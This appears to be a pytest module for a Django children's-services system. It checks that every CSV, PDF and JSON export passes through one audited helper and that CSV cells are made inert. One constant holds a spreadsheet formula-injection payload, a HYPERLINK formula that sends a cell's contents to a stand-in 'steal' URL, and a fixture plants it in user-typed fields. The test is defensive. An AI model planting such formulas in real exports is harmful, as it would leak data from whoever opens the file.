"""Every export goes through audit/exports.py: its CSV cells are inert, its PDF is a PDF, it is audited.

EXPORTS lists every export a user can download. A call of the helper that has
no row here fails `test_every_export_is_in_the_table`, and a module that
builds a CSV or a PDF itself fails `test_nothing_else_writes_csv_or_pdf`.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from joinedup.audit.models import AuditEvent
from joinedup.audit.services import audit_record
from joinedup.conftest import make_record, make_user
from joinedup.governance.jobs import SUBJECT_ACCESS_PACK
from joinedup.jobs.services import job_file_save, job_start, job_succeed
from joinedup.participation import services as participation_services
from joinedup.participation.tests.test_participation import opportunity_data
from joinedup.partnership.models import District

HYPERLINK = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ROOT = Path(__file__).resolve().parents[2]


@dataclass(frozen=True)
class Export:
    role: str
    url: Any  # (fixture) -> str
    kind: str  # csv, pdf or json
    event: str


EXPORTS: dict[str, Export] = {
    "record import problems": Export(
        "data_officer",
        lambda f: reverse("imports:problems", args=[f["import"].uuid]),
        "csv",
        "records_import.problems_exported",
    ),
    "participation directory": Export(
        "participation_officer",
        lambda f: reverse("participation:directory") + "?format=csv",
        "csv",
        "participation.directory_exported",
    ),
    "participation coverage csv": Export(
        "strategic_lead",
        lambda f: reverse("participation:coverage") + "?format=csv",
        "csv",
        "participation.coverage_exported",
    ),
    "participation coverage pdf": Export(
        "strategic_lead",
        lambda f: reverse("participation:coverage") + "?format=pdf",
        "pdf",
        "participation.coverage_exported",
    ),
    "audit trail": Export("dpo", lambda f: reverse("governance:audit") + "?format=csv", "csv", "audit.exported"),
    "subject access json": Export(
        "dpo",
        lambda f: reverse("governance:subject_access_json", args=[f["child"].uuid]),
        "json",
        "subject_access.exported",
    ),
    "subject access pdf": Export(
        "dpo",
        lambda f: reverse("governance:subject_access_pdf", args=[f["child"].uuid]),
        "pdf",
        "subject_access.exported",
    ),
    "chronology pdf": Export(
        "practitioner",
        lambda f: reverse("chronology:chronology_pdf", args=[f["child"].uuid]),
        "pdf",
        "chronology.exported",
    ),
    # A file a background job made and kept (jobs:file); the subject access pack stands for them all.
    "kept job file": Export(
        "dpo", lambda f: reverse("jobs:file", args=[f["pack"].job.uuid]), "pdf", "subject_access.pack_downloaded"
    ),
    "pathway alignment pdf": Export(
        "strategic_lead", lambda f: reverse("pathways:align") + "?format=pdf", "pdf", "pathways.alignment_exported"
    ),
}

CONTENT_TYPES = {"csv": "text/csv; charset=utf-8", "pdf": "application/pdf", "json": "application/json"}


@pytest.fixture
def planted(world: Any) -> dict[str, Any]:
    """A formula where each CSV export shows text a person typed: a title, a district, a user name."""
    participation_services.opportunity_save(
        actor=world.users["participation_officer"], opportunity=None, data=opportunity_data(world, title=HYPERLINK)
    )
    District.objects.create(area=world.city, name=HYPERLINK)
    audit_record(actor=make_user(world, role="practitioner", username=HYPERLINK), event="test.planted")
    from joinedup.imports.models import ImportProblem, RecordImport

    record_import = RecordImport.objects.create(
        agency=world.agencies["city_csc"], started_by=world.users["data_officer"], file_name="records.csv", rows=1
    )
    # A problem names the column as the agency's file spelt it: typed by a person.
    ImportProblem.objects.create(record_import=record_import, row=2, column=HYPERLINK, message="Not a UK postcode")
    child = make_record(world, agency="city_csc", given_names="Ada").child
    job = job_start(actor=world.users["dpo"], kind=SUBJECT_ACCESS_PACK, params={"child": str(child.uuid)})
    job_succeed(job=job, result="Ready.")
    pack = job_file_save(
        job=job,
        filename="pack.pdf",
        content_type="application/pdf",
        content=b"%PDF-1.7 a kept pack",
        download_event="subject_access.pack_downloaded",
        child_uuid=child.uuid,
    )
    return {"child": child, "import": record_import, "pack": pack}


def _get(world: Any, export: Export, planted: dict[str, Any]) -> Any:
    client = Client()
    client.force_login(world.users[export.role])
    return client.get(export.url(planted))


@pytest.mark.parametrize("name", [n for n, e in EXPORTS.items() if e.kind == "csv"])
def test_a_formula_typed_into_the_data_comes_out_inert(world: Any, planted: dict[str, Any], name: str) -> None:
    response = _get(world, EXPORTS[name], planted)
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'" + HYPERLINK in cells, "the planted formula should be in this export, made text"
    assert not [c for c in cells if c.startswith(FORMULA_START)]


@pytest.mark.parametrize("name", list(EXPORTS))
def test_each_export_is_an_attachment_and_writes_its_audit_row(world: Any, planted: dict[str, Any], name: str) -> None:
    export = EXPORTS[name]
    before = AuditEvent.objects.filter(event=export.event).count()
    response = _get(world, export, planted)
    assert response.status_code == 200
    assert response["Content-Type"] == CONTENT_TYPES[export.kind]
    assert response["Content-Disposition"].startswith('attachment; filename="')
    if export.kind == "pdf":
        assert response.content.startswith(b"%PDF")
    events = AuditEvent.objects.filter(event=export.event).order_by("id")
    assert events.count() == before + 1, "one audit event per export, no more"
    assert events.last().actor_id == world.users[export.role].pk  # type: ignore[union-attr]


def _sources() -> list[Path]:
    return [p for p in ROOT.rglob("*.py") if "tests" not in p.parts and "migrations" not in p.parts]


def test_every_export_is_in_the_table() -> None:
    calls = sum(len(re.findall(r"\b(?:csv|pdf|json|kept_file)_response\(", p.read_text())) for p in _sources())
    helper = len(
        re.findall(r"\bdef (?:csv|pdf|json|kept_file)_response\(", (ROOT / "audit" / "exports.py").read_text())
    )
    assert calls - helper == len(EXPORTS), "add the new export to EXPORTS"


# Modules that may write CSV themselves, each with its reason.
CSV_ALLOWED = {
    # The operator's own command: it writes the clusters of the files it was given back to a file
    # beside them, for the operator, and reads nothing from the database about a child.
    "linkage/management/commands/link_files.py",
    # link_files' --problems file, for the same operator, every cell through csv_safe.
    "linkage/extracts.py",
}


def test_nothing_else_writes_csv_or_pdf() -> None:
    offenders = []
    for path in _sources():
        name = path.relative_to(ROOT).as_posix()
        if name == "audit/exports.py":
            continue
        text = path.read_text()
        if re.search(r"weasyprint|write_pdf|Content-Disposition", text):
            offenders.append(name)
        if "csv.writer" in text and name not in CSV_ALLOWED:
            offenders.append(name)
    assert not offenders, "export through joinedup/audit/exports.py"
